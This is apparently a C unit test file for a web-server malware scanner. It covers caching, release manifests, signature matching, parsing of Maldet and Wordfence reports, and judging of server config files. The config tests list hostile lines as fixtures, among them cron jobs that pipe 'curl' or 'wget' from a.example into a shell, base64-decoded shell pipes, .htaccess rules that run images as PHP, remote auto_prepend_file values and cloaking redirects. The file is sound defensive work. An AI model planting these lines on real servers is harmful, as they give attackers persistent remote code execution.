/* Caches, releases, signatures, what others have named, includes and clamd's words: each by itself. */
#include "base/arena.h"
#include "scan/cache.h"
#include "scan/clamd.h"
#include "scan/config.h"
#include "scan/includes.h"
#include "scan/known.h"
#include "scan/lexicon.h"
#include "scan/named.h"
#include "scan/php.h"
#include "scan/sigs.h"
#include "sys/beneath.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

static void cache_finds_all_and_nothing_else(void **state)
{
	uint64_t print[1000], seed = 1;
	struct cache c = { print, 0, 0 };

	assert_false(cache_has(&c, 0));
	for (size_t i = 0; i < 1000; i++) {
		/* clustered, as a cache that is not evenly spread would be */
		seed = seed * UINT64_C(6364136223846793005) + 1;
		print[i] = i < 500 ? seed : (seed >> 50) + 2;
	}
	print[0] = 0;
	print[1] = UINT64_MAX;
	c.n = cache_sort(print, 1000);
	assert_true(c.n > 900);
	for (size_t i = 0; i < c.n; i++)
		assert_true(cache_has(&c, print[i]));
	for (size_t i = 1; i < c.n; i++) {
		assert_true(print[i] > print[i - 1]);
		if (print[i] - print[i - 1] > 1)
			assert_false(cache_has(&c, print[i] - 1));
	}
	(void)state;
}

static void cache_hangs_on_every_fact(void **state)
{
	struct file_status st = {
		.ctime = 100, .ctime_nsec = 5, .size = 7, .inode = 8, .device = 9, .uid = 1, .mode = 2
	};
	const uint64_t was = cache_print(3, SPAN("a/b"), &st);
	struct file_status other;

	assert_int_equal(cache_print(3, SPAN("a/b"), &st), was);
	assert_int_not_equal(cache_print(4, SPAN("a/b"), &st), was);
	assert_int_not_equal(cache_print(3, SPAN("a/c"), &st), was);
#define CHANGED(member)                                                         \
	do {                                                                    \
		other = st;                                                     \
		other.member++;                                                 \
		assert_int_not_equal(cache_print(3, SPAN("a/b"), &other), was); \
	} while (0)
	CHANGED(ctime);
	CHANGED(ctime_nsec);
	CHANGED(size);
	CHANGED(inode);
	CHANGED(device);
	CHANGED(uid);
	CHANGED(mode);
	other = st;
	other.mtime++; /* the owner's to set: whoever sets it changes ctime */
	assert_int_equal(cache_print(3, SPAN("a/b"), &other), was);
	assert_true(cache_may_keep(&st, 103));
	assert_false(cache_may_keep(&st, 102));
	assert_false(cache_may_keep(&st, 50));
	(void)state;
}

static void known_by_any_end_of_the_path(void **state)
{
	struct known *k = known_new();
	struct known_answer a;

	/* md5 of "a" and of "b" */
	assert_int_equal(known_add_manifest(k,
					    SPAN("# release: Tool 1\n# anchor: inc/v.php\n"
						 "0cc175b9c0f1b6a831c399e269772661  inc/v.php\n"
						 "92eb5ffee6ae2fec3ad71c777531578f *./core.php\n"
						 "nonsense\n92eb5ffee6ae2fec3ad71c777531578f  /absolute\n"),
					    SPAN("file")),
			 2);
	known_ready(k);
	assert_true(known_may(k, SPAN("/x/core.php")));
	assert_false(known_may(k, SPAN("/x/other.php")));
	assert_true(known_is_anchor(k, SPAN("home/x/inc/v.php")));
	assert_false(known_is_anchor(k, SPAN("home/x/v.php")));
	known_look(k, SPAN("/home/x/inc/v.php"), SPAN("a"), &a);
	assert_int_equal(a.state, KNOWN_SAME);
	assert_true(a.anchor);
	assert_int_equal(a.root, 8);
	assert_true(span_eq(a.release, SPAN("Tool 1")));
	known_look(k, SPAN("/home/x/core.php"), SPAN("b"), &a);
	assert_int_equal(a.state, KNOWN_SAME);
	known_look(k, SPAN("/home/x/core.php"), SPAN("changed"), &a);
	assert_int_equal(a.state, KNOWN_OTHER);
	assert_false(a.sure);
	assert_int_equal(a.root, 8);
	assert_true(known_has(k, SPAN("core.php"), a.set));
	known_look(k, SPAN("/home/x/nothing.php"), SPAN("b"), &a);
	assert_int_equal(a.state, KNOWN_NOT);
	known_free(k);
	(void)state;
}

static void known_packages_count_from_the_root(void **state)
{
	struct known *k = known_new();
	struct known_answer a;

	assert_int_equal(known_add_package(k, SPAN("0cc175b9c0f1b6a831c399e269772661  usr/share/a.php\n"),
					   SPAN("pkg")),
			 0);
	known_ready(k);
	known_look(k, SPAN("/usr/share/a.php"), SPAN("x"), &a);
	assert_int_equal(a.state, KNOWN_OTHER);
	assert_true(a.sure);
	known_look(k, SPAN("/home/usr/share/a.php"), SPAN("x"), &a);
	assert_int_equal(a.state, KNOWN_NOT);
	known_free(k);
	(void)state;
}

static size_t match(const struct sigs *s, struct span text)
{
	struct span name[SIGS_TOLD];
	bool all;

	return sigs_match(s, text, true, name, &all);
}

static void sigs_fit_where_they_should(void **state)
{
	static const struct {
		const char *line, *fits, *not ;
	} cases[] = {
		{ "A:0:*:61626364", "xxabcdxx", "xxabcxd" },
		{ "A:0:0:61626364", "abcdxx", "xabcd" },
		{ "A:0:2,1:61626364", "xxxabcd", "xxxxabcd" },
		{ "A:0:EOF-4:61626364", "xxabcd", "abcdx" },
		{ "A:0:*:61626364??65", "abcdxe", "abcde" },
		{ "A:0:*:616263646?", "abcdo", "abcdp" },
		{ "A:0:*:61626364*65666768", "abcd...efgh", "efgh...abcd" },
		{ "A:0:*:61626364{2}65666768", "abcd..efgh", "abcd.efgh" },
		{ "A:0:*:61626364{-2}65666768", "abcdefgh", "abcd...efgh" },
		{ "A:0:*:61626364{2-}65666768", "abcd.....efgh", "abcd.efgh" },
		/* the anchor is the longer part, in the middle */
		{ "A:0:*:6161{1-2}62626262626262{1-2}6363", "aa.bbbbbbb..cc", "aabbbbbbb.cc" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		struct sigs *s = sigs_new();

		assert_int_equal(sigs_add(s, SPAN("x.ndb"), span_str(cases[i].line)), 0);
		sigs_ready(s);
		assert_int_equal(match(s, span_str(cases[i].fits)), 1);
		assert_int_equal(match(s, span_str(cases[i].not )), 0);
		sigs_free(s);
	}
	(void)state;
}

static void sigs_say_what_they_do_not_use(void **state)
{
	static const char *const lines[] = { "A:1:*:61626364",	  "A:0:*:616263",
					     "A:0:EP+0:61626364", "A:0:*:6162(63|64)65666768",
					     "A:0:*:6",		  "A",
					     "A:0:*:61626364{",	  "A:0:*:61626364{a}65",
					     "A:0:*:{2}61626364", "A:0:*:61626364*",
					     ":0:*:61626364",	  "A:0:*:" };

	for (size_t i = 0; i < sizeof(lines) / sizeof(*lines); i++) {
		struct sigs *s = sigs_new();

		assert_int_equal(sigs_add(s, SPAN("x.ndb"), span_str(lines[i])), 1);
		assert_int_equal(sigs_count(s), 0);
		sigs_free(s);
	}
	(void)state;
}

static void sigs_sums_of_whole_files(void **state)
{
	struct sigs *s = sigs_new();
	struct span name[SIGS_TOLD];
	bool all;

	assert_int_equal(sigs_add(s, SPAN("x.hdb"),
				  SPAN("0cc175b9c0f1b6a831c399e269772661:1:Own.A\n"
				       "92eb5ffee6ae2fec3ad71c777531578f:2:Own.Wrong.Size\nrubbish\n")),
			 1);
	assert_int_equal(
		sigs_add(
			s, SPAN("x.hsb"),
			SPAN("ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb:*:Own.Sha\n")),
		0);
	sigs_ready(s);
	assert_int_equal(sigs_match(s, SPAN("a"), true, name, &all), 2);
	assert_int_equal(sigs_match(s, SPAN("a"), false, name, &all), 0);
	assert_int_equal(sigs_match(s, SPAN("b"), true, name, &all), 0);
	sigs_free(s);
	(void)state;
}

struct seen {
	struct buf text;
};

static void see(void *ctx, struct span path, struct span name, bool away)
{
	struct seen *s = ctx;

	buf_addf(&s->text, "%.*s|%.*s|%d;", (int)path.n, path.p, (int)name.n, name.p, away);
}

static void names(enum named_kind kind, const char *text, const char *want)
{
	struct seen s = { BUF_MAX(4096) };

	named_read(kind, span_str(text), see, &s);
	assert_true(span_eq(buf_view(&s.text), span_str(want)));
	buf_free(&s.text);
}

static void named_of_each_form(void **state)
{
	names(NAMED_MALDET_HITS, "{HEX}a.b : /x/y z.php\n{MD5}c : /x/q.php => /usr/q/1\nno path : here\n\n",
	      "/x/y z.php|{HEX}a.b|0;/x/q.php|{MD5}c|1;");
	names(NAMED_MALDET_HITS, "#sig\tfile\tquarpath\n{HEX}a\t/x/1\t-\n{HEX}b\t/x/2\t/q/2\n",
	      "/x/1|{HEX}a|0;/x/2|{HEX}b|1;");
	names(NAMED_MALDET_HITS, "12\t{HEX}a\t/x/1\tzz\n", "/x/1|{HEX}a|0;");
	names(NAMED_MALDET_HISTORY, "1:2:sig:md5:5:o.g:644:1:2:3:/a:b/c.php\n", "/a:b/c.php|sig|0;");
	names(NAMED_MALDET_QUARANTINE, "1:sig:/a:b/c.php:o:g:md5:5:/q/c.php.1\n", "/a:b/c.php|sig|1;");
	names(NAMED_WORDFENCE, "filename,signature_id,signature_name\r\n\"/a,b\"\"c\",1,\"X, Y\"\r\n/d,2,Z\n",
	      "/a,b\"c|X, Y|0;/d|Z|0;");
	names(NAMED_WORDFENCE, "/d,2,Z\nrelative,1,Q\n", "/d|Z|0;");
	(void)state;
}

static void includes_with_their_place(void **state)
{
	struct lexicon *words = lexicon_new();
	struct arena *a = arena_new();
	struct include name[8];
	size_t n = includes_of(
		words,
		SPAN("<?php include 'a.php'; require_once(__DIR__ . \"/../b/c.inc\"); include $x; "
		     "$y = 'include'; foo('z'); require '/home/u/d.php'; "
		     "include dirname(dirname(__FILE__)) . '/e.php'; include dirname(__DIR__, 2) . "
		     "'/f.php';"),
		a, name, 8);

	assert_int_equal(n, 5);
	assert_int_equal(name[0].at, 6);
	assert_true(
		span_eq(includes_place(a, SPAN("/home/u"), SPAN("www/x"), name[3].name), SPAN("www/e.php")));
	assert_true(span_eq(includes_place(a, SPAN("/home/u"), SPAN("www/x/y"), name[4].name),
			    SPAN("www/f.php")));
	assert_true(
		span_eq(includes_place(a, SPAN("/home/u"), SPAN("www"), name[0].name), SPAN("www/a.php")));
	assert_true(span_eq(includes_place(a, SPAN("/home/u"), SPAN("www"), name[1].name), SPAN("b/c.inc")));
	assert_true(span_eq(includes_place(a, SPAN("/home/u"), SPAN("www"), name[2].name), SPAN("d.php")));
	assert_int_equal(includes_place(a, SPAN("/home/u"), SPAN("www"), SPAN("../../etc/passwd")).n, 0);
	arena_free(a);
	lexicon_free(words);
	(void)state;
}

static void clamd_says(void **state)
{
	assert_true(span_eq(clamd_socket_of(SPAN("# LocalSocket /no\nFoo bar\nLocalSocket   /run/c.ctl  \n")),
			    SPAN("/run/c.ctl")));
	assert_int_equal(clamd_socket_of(SPAN("LocalSocketGroup clamav\n")).n, 0);
	assert_int_equal(clamd_time_of(SPAN("ClamAV 1.4.6/27450/Thu Nov  5 09:28:13 2026")),
			 INT64_C(1793836800));
	assert_int_equal(clamd_time_of(SPAN("ClamAV 1.4.6")), 0);
	assert_int_equal(clamd_time_of(SPAN("ClamAV 1.4.6/27450/Thu Nox  5 09:28:13 2026")), 0);
	assert_int_equal(clamd_time_of(SPAN("a/b/")), 0);
	(void)state;
}

/* Settings by what they do: one line each, and what takes the blame away. "" is clean. */
static void settings_by_what_they_do(void **state)
{
	static const struct {
		const char *path, *text, *rule;
		int score;
	} cases[] = {
		{ "a/.htaccess", "AddHandler application/x-httpd-php .jpg", "config.handler", 120 },
		{ "a/.HTACCESS", "addtype application/x-httpd-php .PNG", "config.handler", 120 },
		{ "a/.htaccess", "<FilesMatch x.gif>\nSetHandler php-script", "config.handler", 120 },
		{ "a/.htaccess", "<Files x.ico>\nForceType php-cgi", "config.handler", 120 },
		{ "a/.htaccess", "Options +ExecCGI\nAddHandler cgi-script .jpg", "config.handler", 120 },
		/* this forbids */
		{ "a/.htaccess", "Options -ExecCGI\nAddHandler cgi-script .jpg .php", "", 0 },
		{ "a/.htaccess", "AddHandler cgi-script .jpg .php", "", 0 },
		{ "a/.htaccess", "AddType image/webp .webp", "", 0 },
		{ "a/.htaccess", "AddHandler application/x-httpd-php .php", "", 0 },
		{ "a/.htaccess", "# AddHandler application/x-httpd-php .jpg", "", 0 },
		{ "a/.htaccess", "SetHandler application/x-httpd-php", "config.handler.all", 20 },
		{ "a/.htaccess", "ForceType application/x-httpd-php", "config.handler.all", 20 },
		{ "a/.htaccess", "SetHandler application/x-httpd-php-fpm", "", 0 },
		{ "a/.htaccess", "SetHandler \"proxy:unix:/run/x|x-httpd-php\"", "", 0 },
		{ "a/.htaccess", "php_value auto_prepend_file /home/x/lib.php", "config.prepend", 50 },
		{ "a/.htaccess", "php_value auto_append_file '/home/x/p.png'", "config.prepend.hidden", 120 },
		{ "a/.user.ini", "auto_prepend_file = \"http://a.example/x\"", "config.prepend.hidden", 120 },
		{ "a/.user.ini", "auto_prepend_file = https://a.example/x", "config.prepend.hidden", 120 },
		{ "a/.user.ini", "auto_prepend_file=php://input", "config.prepend.hidden", 120 },
		{ "php.ini", "auto_append_file=data:text/plain;base64,x", "config.prepend.hidden", 120 },
		{ "a/.php.ini", "auto_append_file=phar://x", "config.prepend.hidden", 120 },
		{ "a/.user.ini", "auto_prepend_file = /tmp/a.php", "config.prepend.place", 100 },
		{ "a/.user.ini", "auto_prepend_file = /var/tmp/a.php", "config.prepend.place", 100 },
		{ "a/.user.ini", "auto_prepend_file = /dev/shm/a.php", "config.prepend.place", 100 },
		{ "a/.user.ini", "auto_prepend_file = /home/x/.a/b.php", "config.prepend.place", 100 },
		{ "a/.user.ini", "auto_prepend_file = /home/x/uploads/b.php", "config.prepend.place", 100 },
		{ "a/.user.ini", "auto_prepend_file = none", "", 0 },
		{ "a/.user.ini", "auto_prepend_file =", "", 0 },
		{ "a/.user.ini", "; auto_prepend_file = /tmp/a.php", "", 0 },
		{ "a/.user.ini", "auto_prepend_file = '/home/x/wordfence-waf.php'", "", 0 },
		{ "a/.user.ini", "memory_limit = 128M", "", 0 },
		{ "a/.htaccess", "RewriteCond %{HTTP_REFERER} (google|yahoo)", "config.cloak", 40 },
		{ "a/.htaccess", "RewriteCond %{HTTP_USER_AGENT} (google|bing)", "config.cloak", 40 },
		{ "a/.htaccess", "RewriteCond %{HTTP_USER_AGENT} (google|msn)", "config.cloak", 40 },
		{ "a/.htaccess", "RewriteCond %{HTTP_USER_AGENT} google", "", 0 },
		{ "a/.htaccess", "RewriteCond %{HTTP_HOST} google.yahoo", "", 0 },
		{ "a/.htaccess",
		  "RewriteCond %{HTTP_REFERER} google|yahoo\nRewriteRule .* http://a.example/ [R,L]",
		  "config.redirect", 70 },
		{ "a/.htaccess",
		  "RewriteCond %{HTTP_REFERER} google|yahoo\nRewriteRule .* https://%{HTTP_HOST}/ [R,L]",
		  "config.cloak", 40 },
		{ "a/.htaccess",
		  "RewriteCond %{HTTP_REFERER} google|yahoo\nRewriteRule .* https://%{SERVER_NAME}/ [R,L]",
		  "config.cloak", 40 },
		{ "a/.htaccess",
		  "RewriteCond %{HTTP_REFERER} google|yahoo\nRewriteRule .* http://a.example/ [P]",
		  "config.cloak", 40 },
		/* a redirect is every site's daily bread */
		{ "a/.htaccess", "RewriteRule .* http://a.example/ [R,L]", "", 0 },
		{ "crontab", "5 * * * * curl http://a.example/x | sh", "config.cron.fetch", 120 },
		{ "x/.crontab", "5 * * * * wget -qO- http://a.example/x |bash", "config.cron.fetch", 120 },
		{ "var/spool/cron/crontabs/x", "5 * * * * lwp-download http://a.example/x | perl",
		  "config.cron.fetch", 120 },
		{ "/var/spool/cron/x", "5 * * * * fetch -o- http://a.example/x |php", "config.cron.fetch",
		  120 },
		{ "crontab", "5 * * * * echo x | base64 -d | bash", "config.cron.decode", 120 },
		{ "crontab", "5 * * * * echo x | base64 -d |sh", "config.cron.decode", 120 },
		{ "crontab", "5 * * * * echo x | base64 -d | php", "config.cron.decode", 120 },
		{ "crontab", "5 * * * * echo x | base64 -d >y", "", 0 },
		{ "crontab", "* * * * * /tmp/x", "config.cron.place", 60 },
		{ "crontab", "*/5 * * * * /dev/shm/x", "config.cron.place", 60 },
		{ "crontab", "*/5 * * * * /var/tmp/x", "config.cron.place", 60 },
		{ "crontab", "5 4 * * * /tmp/x", "config.cron.place", 60 },
		{ "crontab", "5 4 * * * php /home/x/a.jpg", "config.cron.picture", 100 },
		/* its output goes there */
		{ "crontab", "5 4 * * * php /home/x/a.php > /home/x/a.log", "", 0 },
		{ "crontab", "5 4 * * * php /home/x/a.php", "", 0 },
		{ "crontab", "5 4 * * * curl http://a.example/ping", "", 0 },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		struct arena *a = arena_new();
		struct judgement j;
		struct events ev;

		assert_true(config_named(span_str(cases[i].path), span_str(cases[i].text)));
		config_judge(span_str(cases[i].path), span_str(cases[i].text), a, &ev, &j);
		if (j.score != cases[i].score || (j.reasons && !cases[i].rule[0]) ||
		    (cases[i].rule[0] &&
		     (!j.reasons || strcmp(j.reason[j.reasons - 1].rule, cases[i].rule) != 0)))
			fail_msg("%s: %d, %s", cases[i].text, j.score,
				 j.reasons ? j.reason[j.reasons - 1].rule : "nothing");
		assert_int_equal(j.verdict, j.score >= 100  ? SCAN_MALICIOUS
					    : j.score >= 50 ? SCAN_SUSPICIOUS
							    : SCAN_CLEAN);
		arena_free(a);
	}
	assert_false(config_named(SPAN("a/htaccess"), SPAN_NONE));
	assert_false(config_named(SPAN("my.php.ini.bak"), SPAN_NONE));
	(void)state;
}

/* A file that repeats one line has one reason, and is no less malicious. */
static void settings_have_a_limit(void **state)
{
	struct buf text = BUF_MAX(1 << 20);
	struct arena *a = arena_new();
	struct judgement j;
	struct events ev;

	for (int i = 0; i < 100; i++)
		buf_span(&text, SPAN("AddHandler application/x-httpd-php .jpg\n"));
	config_judge(SPAN(".htaccess"), buf_view(&text), a, &ev, &j);
	assert_int_equal(j.reasons, 1);
	assert_int_equal(j.verdict, SCAN_MALICIOUS);
	arena_free(a);
	buf_free(&text);
	(void)state;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(cache_finds_all_and_nothing_else),
		cmocka_unit_test(cache_hangs_on_every_fact),
		cmocka_unit_test(known_by_any_end_of_the_path),
		cmocka_unit_test(known_packages_count_from_the_root),
		cmocka_unit_test(sigs_fit_where_they_should),
		cmocka_unit_test(sigs_say_what_they_do_not_use),
		cmocka_unit_test(sigs_sums_of_whole_files),
		cmocka_unit_test(named_of_each_form),
		cmocka_unit_test(includes_with_their_place),
		cmocka_unit_test(clamd_says),
		cmocka_unit_test(settings_by_what_they_do),
		cmocka_unit_test(settings_have_a_limit),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
